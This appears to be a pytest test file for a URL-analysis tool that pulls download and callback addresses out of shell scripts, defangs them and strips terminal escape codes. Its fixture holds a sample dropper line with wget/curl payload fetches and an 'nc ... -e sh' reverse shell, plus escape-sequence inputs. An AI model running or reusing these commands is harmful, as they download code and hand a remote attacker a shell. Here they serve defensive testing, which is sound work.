"""`urltrap recover`, and the canonical form against the parser of browsers."""

from __future__ import annotations

import json
from pathlib import Path

import ada_url
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from urltrap.model.url import UrlError, parse_url
from urltrap.ops.cli import load_commands
from urltrap.ops.cli.common import CommandError, app

TEXT = "wget http://8.8.4.4/a || curl -O http://8.8.4.4/b; nc 8.8.4.4 4444 -e sh"


@pytest.fixture
def runner() -> CliRunner:
    load_commands(["recover"])
    return CliRunner()


def test_lines_of_json_are_answered_in_order(runner: CliRunner) -> None:
    lines = [{"text": TEXT}, {"text": "ls"}, {"text": "wget http://8.8.4.4/\x1b[31m"}]
    result = runner.invoke(
        app, ["recover", "--jsonl"], input="".join(json.dumps(line) + "\n" for line in lines)
    )
    answers = [json.loads(line) for line in result.stdout.splitlines()]
    assert result.exit_code == 0
    assert answers[0] == ["http://8.8.4.4/a", "http://8.8.4.4/b"] and answers[1] == []


def test_a_line_that_is_no_object_says_which(runner: CliRunner) -> None:
    result = runner.invoke(app, ["recover", "--jsonl"], input='{"text": "ls"}\n["x"]\n')
    assert isinstance(result.exception, CommandError)
    assert "line 2" in str(result.exception)


def test_a_file_is_explained_as_a_tree_with_defanged_urls(runner: CliRunner, tmp_path: Path) -> None:
    file = tmp_path / "drop.sh"
    file.write_text(TEXT)
    result = runner.invoke(app, ["recover", str(file), "--explain"])
    assert result.exit_code == 0
    assert "hxxp://8[.]8[.]4[.]4/a" in result.stdout and "conditional" in result.stdout
    assert "http://8.8.4.4" not in result.stdout


def test_all_kinds_are_told_apart_in_json(runner: CliRunner, tmp_path: Path) -> None:
    file = tmp_path / "drop.sh"
    file.write_text(TEXT)
    result = runner.invoke(app, ["recover", str(file), "--all", "--json"])
    kinds = {item["url"]: item["kind"] for item in json.loads(result.stdout)["urls"]}
    assert kinds["http://8.8.4.4/a"] == "payload" and kinds["tcp://8.8.4.4:4444"] == "callback"


def test_control_characters_never_reach_the_terminal(runner: CliRunner) -> None:
    text = b"wget 'http://8.8.4.4/\x1b]0;x\x07' -O '\x1b[2J'"
    for option in ("--explain", "--all"):
        result = runner.invoke(app, ["recover", option], input=text)
        assert result.exit_code == 0
        assert "\x1b]" not in result.stdout and "\x07" not in result.stdout and "\x1b[2J" not in result.stdout


def test_a_file_that_is_not_there_says_what_to_do(runner: CliRunner, tmp_path: Path) -> None:
    result = runner.invoke(app, ["recover", str(tmp_path / "none")])
    assert isinstance(result.exception, CommandError) and "readable file" in str(result.exception)


host = st.one_of(
    st.from_regex(r"[a-zA-Z0-9]([a-zA-Z0-9-]{0,8}[a-zA-Z0-9])?(\.[a-zA-Z]{2,6}){1,3}", fullmatch=True),
    st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){3}", fullmatch=True),
    st.from_regex(r"0x[0-9a-f]{1,8}|[0-9]{1,10}", fullmatch=True),
    st.ip_addresses(v=6).map(lambda address: f"[{address}]"),
    st.text("bücher例え.", min_size=1, max_size=8),
)


port_number = st.one_of(st.none(), st.integers(0, 70_000))


@given(st.sampled_from(["http", "HTTPS", "Http"]), host, port_number, st.sampled_from(["", "/a", "?b", "#c"]))
def test_scheme_host_and_port_are_as_browsers_read_them(
    scheme: str, name: str, port: int | None, tail: str
) -> None:
    raw = f"{scheme}://{name}{'' if port is None else f':{port}'}{tail}"
    try:
        ours = parse_url(raw)
    except UrlError:
        ours = None
    try:
        theirs = ada_url.URL(raw)
    except ValueError:
        assert ours is None
        return
    if ours is None:
        assert port == 0 or not theirs.hostname  # port 0 cannot be connected to
        return
    assert ours.scheme + ":" == theirs.protocol
    assert ours.host == theirs.hostname.strip("[]")
    assert ours.port == int(theirs.port or {"http": 80, "https": 443}[ours.scheme])
    assert parse_url(ours.text).text == ours.text
